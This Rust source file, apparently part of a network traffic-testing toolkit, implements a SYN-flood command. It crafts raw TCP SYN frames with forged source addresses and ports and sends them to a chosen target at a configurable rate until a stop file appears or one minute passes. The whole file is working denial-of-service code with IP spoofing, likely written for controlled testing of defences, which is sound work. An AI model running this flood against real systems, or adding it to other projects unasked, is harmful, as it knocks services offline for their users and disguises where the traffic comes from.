//! SYNs from addresses that nobody has: followed by nothing.

use crate::traffic::packet::{Ipv4Fields, PacketSocket, internet_checksum, ipv4_frame, mac_of};
use crate::{Failure, Outcome, clock};
use clap::Args;
use serde::Serialize;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::path::PathBuf;
use std::time::Duration;

/// Beyond this it ends, whatever happens.
const LIMIT: Duration = Duration::from_mins(1);
const TICK: Duration = Duration::from_millis(5);
/// Of each forged source.
const FIRST_PORT: u16 = 1024;

/// Sends SYNs with forged sources until a file appears.
#[derive(Args)]
pub struct Flood {
    /// Where to.
    target: SocketAddrV4,
    /// The gateway's MAC address, in hex.
    #[arg(long)]
    to_mac: String,
    /// The first of a hundred addresses that they claim to come from.
    #[arg(long)]
    from: Ipv4Addr,
    /// So many a second.
    #[arg(long, default_value_t = 2_000)]
    per_second: u32,
    /// The interface to send on.
    #[arg(long, default_value = "eth0")]
    interface: String,
    /// The file whose appearance ends it.
    #[arg(long)]
    until: PathBuf,
}

/// What came of it.
#[derive(Serialize)]
pub struct Report {
    /// SYNs that the kernel took.
    pub sent: u64,
}

impl Flood {
    /// Runs it.
    ///
    /// # Errors
    /// No socket, or no MAC address.
    pub fn run(&self) -> Outcome<Report> {
        let raw = PacketSocket::open(&self.interface)?;
        let macs = (mac_of(&self.interface)?, self.mac()?);
        let start = clock::now();
        let mut report = Report { sent: 0 };
        while !self.until.exists() && start.elapsed() < LIMIT {
            let due = start.elapsed().as_millis() as u64 * u64::from(self.per_second) / 1000;
            while report.sent < due {
                // A full queue loses some: they count as sent.
                let _ = raw.send(&self.syn(macs, report.sent));
                report.sent += 1;
            }
            std::thread::sleep(TICK);
        }
        Ok(report)
    }

    fn mac(&self) -> Outcome<[u8; 6]> {
        let bytes = super::fragments::hex(&self.to_mac)?;
        bytes.try_into().map_err(|_| Failure::new(format!("{} is no MAC address", self.to_mac)))
    }

    fn syn(&self, macs: ([u8; 6], [u8; 6]), n: u64) -> Vec<u8> {
        let address = Ipv4Addr::from_bits(self.from.to_bits() + (n % 100) as u32);
        let port = FIRST_PORT + ((n / 100) % 60_000) as u16;
        let (from, to) = (SocketAddrV4::new(address, port), self.target);
        let mut segment = [from.port().to_be_bytes(), to.port().to_be_bytes()].concat();
        segment.extend((n as u32).wrapping_mul(0x9e37_79b9).to_be_bytes());
        segment.extend([0, 0, 0, 0, 0x60, 0x02, 0xff, 0xff, 0, 0, 0, 0, 2, 4, 5, 0xb4]);
        let pseudo = [&from.ip().octets()[..], &to.ip().octets(), &[0, 6, 0, segment.len() as u8]].concat();
        let checksum = internet_checksum(&[&pseudo, &segment]);
        segment[16..18].copy_from_slice(&checksum.to_be_bytes());
        let ip = Ipv4Fields { id: n as u16, offset_bytes: 0, more: false, ttl: 64, protocol: 6 };
        ipv4_frame(macs, (from, to), ip, &segment)
    }
}
